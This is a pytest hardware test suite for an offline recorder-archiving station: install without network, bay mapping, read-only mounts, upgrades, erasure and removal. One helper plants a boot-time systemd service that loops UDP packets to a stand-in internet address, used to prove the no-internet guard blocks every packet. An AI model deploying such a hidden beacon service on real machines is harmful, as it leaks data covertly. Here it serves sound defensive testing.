"""From a bare Debian without network to a working station, and what becomes of it."""

import ipaddress
import subprocess
import tomllib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.hardware.bays import archived
from tests.hardware.installed import (
    AGENTS,
    DATA,
    NEW,
    OLD,
    Station,
    bare_station,
    make_bundles,
    on_key,
    usb_key,
)
from tests.hardware.kernel import disk_boot_files
from tests.hardware.machine import Machine, frames_on
from tests.hardware.operations import commands
from tests.hardware.recorders import UsbRecorder, names_on, recorder

pytestmark = pytest.mark.timeout(3_600)

MIB = 1 << 20
KEY_PORT = "8"
BAYS_TOML = '[[bays]]\nnumber = 1\nsource = "usb"\nports = ["1-1", "2-1"]\n'
MOST_IDLE_BYTES = 80_000_000
INTERNET = "203.0.113.9"


@dataclass(frozen=True, kw_only=True)
class Made:
    """A station that was installed and saved as it runs, and what was seen meanwhile."""

    station: Station
    saved: Path
    key: Path
    unused_key: Path
    recorders: list[UsbRecorder]
    said: str
    before: str
    bay_map: str


@pytest.fixture(scope="module")
def made(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Made:
    """Do all that docs/operations.md says, once for all tests; each goes on with a copy."""
    root = tmp_path_factory.mktemp("installation")
    recorders = [
        recorder(root / str(number), number, clips=2, clip_bytes=size * MIB)
        for number, size in ((1, 1), (2, 12))
    ]
    station = bare_station(make_bundles(root), disk_boot_files(), folder)
    keys = [usb_key(root / name) for name in ("key.img", "unused.img")]
    machine = station.power_on()
    try:
        before = machine.sh("ls /sys/class/net; command -v python3 || echo no python")
        said = "".join(station.do(block, version=OLD) for block in commands("The archive"))
        machine.sh(f"cat >>/etc/bayward/registry.toml <<'END'\n{_registered(recorders[1])}\nEND")
        machine.sh(f"cat >/root/bays.toml <<'END'\n{BAYS_TOML}END")
        [write_key] = commands("A USB key for each dock")
        for key, changed in zip(keys, ("dock-01", "dock-02 --bays /root/bays.toml"), strict=True):
            stick = machine.plug(key, KEY_PORT)
            machine.until("head -c 1 /dev/sda")
            station.do(write_key.replace("dock-01", changed), version=OLD)
            machine.pull(stick)
        install, map_bays, look = commands("The dock")
        said += station.do(install, version=OLD)
        bay_map = _map_bays(station, map_bays, keys[1])
        # So slowly that a docking is seen in its midst.
        limit = "read_limit_bytes_s = 2097152"
        machine.sh(f"sed -i '/^number/a {limit}' /etc/bayward/bays.toml")
        stick = machine.plug(keys[0], KEY_PORT)
        station.until_active()
        machine.pull(stick)
        said += station.do(look, version=OLD)
        machine.save(folder / "saved")
    finally:
        machine.cut_power()
    return Made(
        station=station,
        saved=folder / "saved",
        key=keys[0],
        unused_key=keys[1],
        recorders=recorders,
        said=said,
        before=before,
        bay_map=bay_map,
    )


def _map_bays(station: Station, command: str, stick: Path) -> str:
    """Do what map-bays asks for, and return what it wrote."""
    machine = station.machine
    machine.start("bash", "-ec", command, log="/run/map")
    # A stick that is no key: this machine is no dock yet, and would take it for one.
    blank = stick.with_name("blank.img")
    blank.write_bytes(bytes(MIB))
    for bay in ("1", "2"):
        machine.until(f"grep -q 'bay {bay}: plug' /run/map")
        plugged = machine.plug(blank, bay)
        machine.until(f"grep -q '  bay {bay} is' /run/map")
        machine.pull(plugged)
    machine.until("test -s /etc/bayward/bays.toml")
    return machine.sh("cat /etc/bayward/bays.toml")


@pytest.fixture
def station(made: Made, tmp_path: Path) -> Iterator[Station]:
    """Go on with a copy of what was installed."""
    disk = tmp_path / "disk.img"
    subprocess.run(["cp", "--sparse=always", str(made.station.disk), str(disk)], check=True)
    copy = Station(
        disk=disk,
        bundles=made.station.bundles,
        boot=made.station.boot,
        folder=made.station.folder,
    )
    copy.go_on(made.saved)
    yield copy
    copy.machine.cut_power()


def _registered(recorder: UsbRecorder) -> str:
    one = recorder.registered
    return (
        f'[[officers]]\nofficer = "{one.officer}"\nname = "{one.officer_name}"\n'
        f'[[recorders]]\nrecorder = "{one.recorder_id}"\nmake = "{one.make}"\n'
        f'model = "{one.model}"\nserial = "{one.serial}"\nofficer = "{one.officer}"'
    )


def _assert_archived(station: Station, one: UsbRecorder) -> None:
    found = archived(station.machine, DATA / "archive")
    assert {digest: found.get(digest) for digest in one.digests.values()} == dict.fromkeys(
        one.digests.values(), 1
    )


def test_installed_without_network(made: Made) -> None:
    """It began with no network and no Python, and the USB key's secrets are gone."""
    assert made.before.split() == ["lo", "no", "python"]
    assert f"bayward-edge {OLD} is installed" in made.said
    assert "0 bad" in made.said
    left = on_key(made.key)
    assert list(left) == ["bayward-dock.result.txt"]
    assert "dock-01" in left["bayward-dock.result.txt"]
    assert b"PRIVATE KEY" not in made.key.read_bytes()


def test_the_bays_were_found_out(made: Made) -> None:
    """By plugging a stick into each, on a real kernel."""
    ports = [bay["ports"] for bay in tomllib.loads(made.bay_map)["bays"]]

    assert [set(one) & {"1-1", "2-1", "1-2", "2-2"} for one in ports] == [
        {"1-1", "2-1"},
        {"1-2", "2-2"},
    ]


def test_first_footage(made: Made, station: Station, tmp_path: Path) -> None:
    """A recorder is read to a receipt, and a technician finds no fault."""
    machine = station.machine
    station.until_active()
    card = made.recorders[0].image(tmp_path / "card")
    before = card.read_bytes()
    machine.plug(card, "1")
    station.bays.until(1, "bay['state'] == 'releasable'")

    mounted = machine.sh("grep bayward-mount /proc/mounts; cat /sys/block/sda/ro")
    doctor = machine.run("edge-agent", "doctor")
    [look] = commands("First footage")
    verified = station.do(look, version=OLD)
    changed = machine.sh("dpkg --verify bayward-edge bayward-server")
    idle_bytes = int(machine.sh("systemctl show -P MemoryCurrent edge-agent"))

    _assert_archived(station, made.recorders[0])
    assert card.read_bytes() == before
    assert " vfat ro,nosuid,nodev,noexec,noatime" in mounted
    assert mounted.splitlines()[-1] == "1"
    assert doctor.status == 0, doctor.out
    assert "0 with findings" in verified
    assert not changed
    assert idle_bytes < MOST_IDLE_BYTES


@pytest.mark.beyond_ci
def test_lamps_of_the_kernel(made: Made, station: Station, tmp_path: Path) -> None:
    """A service whose /sys is read-only lights them; a keyboard's lamp stands for a bay's."""
    station.until_active()
    machine = station.machine
    machine.plug_device("usb-kbd", "7")
    lamp = machine.until("ls /sys/class/leds | grep capslock").strip()
    machine.until(f'test "$(stat -Lc %G /sys/class/leds/{lamp}/brightness)" = bayward-edge')
    machine.sh(
        f"sed -i '/^number = 1$/a green_lamp = \"{lamp}\"' /etc/bayward/edge.toml;"
        " systemctl restart edge-agent"
    )
    machine.plug(made.recorders[0].image(tmp_path / "card"), "1")
    station.bays.until(1, "bay['state'] == 'releasable'")

    machine.until(f'test "$(cat /sys/class/leds/{lamp}/brightness)" = 1')
    checked = machine.sh("edge-agent check-config")
    pid = "$(systemctl show -P MainPID edge-agent)"
    elsewhere = machine.run(
        "sh", "-c", f"nsenter -t {pid} -m sh -c 'echo 1 >/sys/kernel/mm/ksm/run'"
    )

    assert f"✓ lamp {lamp}" in checked
    assert elsewhere.status != 0


@pytest.mark.beyond_ci
def test_a_dock_takes_no_second_key(made: Made, station: Station) -> None:
    """What is a dock stays this dock, and the key is left as it was."""
    station.until_active()
    before = made.unused_key.read_bytes()

    station.machine.plug(made.unused_key, KEY_PORT)
    station.machine.until('test "$(cat /sys/block/sda/ro)" = 1')
    shown = station.machine.sh("systemctl show -P ActiveState bayward-provision@sda.service")

    assert shown.strip() == "inactive"
    assert 'dock = "dock-01"' in station.machine.sh("cat /etc/bayward/edge.toml")
    assert made.unused_key.read_bytes() == before


@pytest.mark.beyond_ci
def test_upgraded_in_mid_docking(made: Made, station: Station, tmp_path: Path) -> None:
    """A newer version goes on where the old one stopped; everything is there, and once.

    The journal is brought back first to its third version.
    """
    station.until_active()
    station.machine.plug(made.recorders[1].image(tmp_path / "card"), "2")
    station.bays.until(2, f"bay['bytes_done'] > {2 * MIB}")

    station.machine.sh(
        'systemctl stop edge-agent; cd /var/lib/bayward/edge; python3.11 -c "import sqlite3;'
        " sqlite3.connect('journal.sqlite').executescript('DROP TABLE erasure; DROP TABLE command;"
        " PRAGMA user_version = 3')\""
    )
    [upgrade] = commands("A newer version")
    station.do(upgrade, version=NEW)
    station.until_active()
    station.bays.until(2, "bay['state'] == 'releasable'")

    _assert_archived(station, made.recorders[1])
    versions = station.machine.sh(
        "dpkg-query --show --showformat='${Version} ' bayward-edge bayward-server"
    )
    assert versions.split() == [NEW, NEW]


@pytest.mark.beyond_ci
def test_power_comes_back_in_mid_docking(made: Made, station: Station, tmp_path: Path) -> None:
    """Nobody touches it: everything starts again, and the recorder that was left in is finished."""
    station.until_active()
    card = made.recorders[1].image(tmp_path / "card")
    station.machine.plug(card, "2")
    station.bays.until(2, f"bay['bytes_done'] > {2 * MIB}")

    station.machine.cut_power()
    station.power_on()
    station.machine.plug(card, "2")
    station.until_active()
    station.bays.until(2, "bay['state'] == 'releasable'")

    _assert_archived(station, made.recorders[1])


def test_recorders_are_erased(made: Made, station: Station, tmp_path: Path) -> None:
    """As docs/erasing.md has it switched on: by the hardened unit, which may write only then."""
    station.until_active()
    card = made.recorders[0].image(tmp_path / "card")
    at_archive, at_dock = commands("Switch it on", page="erasing.md")
    station.do(at_archive, version=OLD)
    stick = station.machine.plug(card, "1")
    refused = station.bays.until(1, "bay['state'] == 'releasable' and bay['problem']")
    station.machine.pull(stick)

    station.do(at_dock, version=OLD)
    stick = station.machine.plug(card, "1")
    shown = station.bays.until(1, "bay['erased_files'] == 2 and bay['state'] == 'releasable'")
    read_only = station.machine.sh("cat /sys/block/sda/ro")
    station.machine.pull(stick)
    station.bays.until(1, "bay['state'] == 'empty'")

    _assert_archived(station, made.recorders[0])
    assert refused["problem"] == "E-MNT-111"
    assert "problem" not in shown
    assert read_only.strip() == "1"
    assert names_on(card) == []


@pytest.mark.beyond_ci
def test_the_no_internet_rule(made: Made, station: Station, tmp_path: Path) -> None:
    """Set up as docs/no-internet.md says, it holds, and a recorder is read.

    A network adapter at USB is refused; one that a technician lets in is shut. From the first
    moment of a boot on, nothing gets out.
    """
    station.until_active()
    machine = station.machine
    machine.sh(
        'printf \'[guard]\\ninterfaces = ["eth0"]\\nnetworks = ["192.168.10.0/24"]\\n\''
        " >>/etc/bayward/edge.toml; rm -f /etc/resolv.conf"
    )
    [set_up] = commands("Set it up", page="no-internet.md")
    station.do(set_up, version=OLD)
    held = machine.until("edge-guard status")
    machine.until("server-agent command --dock dock-01 doctor")
    machine.plug_device("usb-net", "6", netdev="rogue")
    machine.until("edge-guard status | grep '✗ USB 1-6:'")
    refused = machine.sh("cat /sys/bus/usb/devices/1-6/authorized; ls /sys/class/net").split()
    driver, is_up = _let_in(machine)
    card = made.recorders[0].image(tmp_path / "card")
    stick = machine.plug(card, "1")
    station.bays.until(1, "bay['state'] == 'releasable'")
    machine.pull(stick)
    pid = "$(systemctl show -P MainPID edge-guard)"
    elsewhere = machine.run(
        "sh", "-c", f"nsenter -t {pid} -m sh -c 'echo 1 >/sys/kernel/mm/ksm/run'"
    )
    _assert_archived(station, made.recorders[0])
    _plan_to_leak(machine)
    machine.switch_off()
    station.power_on(wire=tmp_path / "guarded.pcap")
    station.until_active(("edge-guard", *AGENTS))
    station.machine.until("edge-guard status | grep 'route'")
    loaded = station.machine.sh("nft list table inet bayward_guard")
    station.machine.sh("systemctl mask edge-guard")
    station.machine.switch_off()
    station.power_on(wire=tmp_path / "unguarded.pcap")
    # A default route: networkd has done what it was told to, and what follows leaves.
    station.machine.until("grep -qw 00000000 /proc/net/route && sleep 2")
    station.machine.switch_off()

    assert held.startswith("holding")
    assert refused == ["0", "lo"]
    assert "cdc_subset" not in driver
    assert not is_up
    assert elsewhere.status != 0
    assert "policy drop" in loaded
    assert _leaked(tmp_path / "unguarded.pcap") > 0, "what is counted is sent"
    assert _leaked(tmp_path / "guarded.pcap") == 0, "not one, from the first moment of the boot"


def _let_in(machine: Machine) -> tuple[str, int]:
    """Let a network adapter in as a technician does; return its driver, and whether it came up."""
    # QEMU's adapter has the numbers of an old gadget, 0525:a4a2. cdc_subset takes any interface of
    # these, the data one too, and cdc_ether, whose it is, finds it busy.
    machine.sh("echo blacklist cdc_subset >/etc/modprobe.d/cdc_subset.conf")
    machine.sh("rmmod cdc_subset 2>/dev/null || true")
    machine.sh("edge-guard open-port --minutes 30 1-6")
    driver = machine.until("readlink /sys/bus/usb/devices/1-6:1.1/driver")
    found = machine.until("ls -d /sys/class/net/[eu]*").strip().rpartition("/")[2]
    flags = f"/sys/class/net/{found}/flags"  # a bare Debian has no ip(8)
    machine.sh(f"echo 0x1003 >{flags}")
    machine.until(f"edge-guard status | grep {found}")
    is_up = int(machine.sh(f"cat {flags}"), 16) & 1
    machine.sh("edge-guard open-port --minutes 0 1-6")
    machine.until("edge-guard status | grep '✗ USB 1-6:'")
    return driver, is_up


def _plan_to_leak(machine: Machine) -> None:
    """Have the next boots send to the internet as soon as there is a network, and go on with it.

    A gateway is configured, as a technician might, and somebody knows where it is.
    """
    machine.sh(
        "cat >/etc/systemd/network/eth0.network <<'END'\n"
        "[Match]\nName=eth0\n[Network]\nAddress=192.168.10.9/24\nGateway=192.168.10.1\n"
        "[Neighbor]\nAddress=192.168.10.1\nLinkLayerAddress=02:00:00:00:00:01\nEND\n"
        "cat >/etc/systemd/system/leak.service <<'END'\n"
        "[Unit]\nDefaultDependencies=no\nAfter=local-fs.target\n[Service]\n"
        "ExecStart=/bin/bash -c"
        f" 'while :; do echo leak >/dev/udp/{INTERNET}/53; sleep 0.05; done'\n"
        "[Install]\nWantedBy=sysinit.target\nEND\n"
        "systemctl enable systemd-networkd leak"
    )


def _leaked(wire: Path) -> int:
    """Return how many packets to the internet were on a wire: Ethernet, then IPv4's destination."""
    wanted = ipaddress.IPv4Address(INTERNET).packed
    return sum(frame[12:14] == b"\x08\x00" and frame[30:34] == wanted for frame in frames_on(wire))


@pytest.mark.beyond_ci
def test_passwords_and_backups(made: Made, station: Station, tmp_path: Path) -> None:
    """What else docs/operations.md says: a sealed password, a copy of all that is verified."""
    station.until_active()
    station.machine.plug(made.recorders[0].image(tmp_path / "card"), "1")
    station.bays.until(1, "bay['state'] == 'releasable'")

    [seal] = commands("A password that recorders ask for")
    station.do(seal, version=OLD)
    station.until_active()
    pid = "$(systemctl show -P MainPID edge-agent)"
    opened = station.machine.sh(
        f"nsenter -t {pid} -m cat /run/credentials/edge-agent.service/recorder"
    )
    [back_up] = commands("Backup of the archive")
    verified = station.do(back_up, version=OLD)

    assert opened == "000000"
    assert "1 bags verified, 0 with findings" in verified


@pytest.mark.beyond_ci
def test_removed(station: Station) -> None:
    """The programs go and what they kept stays, even when the packages are purged."""
    station.until_active()
    machine = station.machine

    [remove] = commands("Taking it away")
    station.do(remove.replace("remove", "--yes purge"), version=OLD)

    active = machine.sh(f"systemctl is-active {' '.join(AGENTS)} || true")
    left = machine.sh(f"ls -d /etc/bayward/edge.toml {DATA}/edge/journal.sqlite {DATA}/archive")
    assert set(active.split()) == {"inactive"}
    assert len(left.split()) == 3
    assert "bayward" not in machine.sh("ls /opt /usr/bin 2>/dev/null || true")
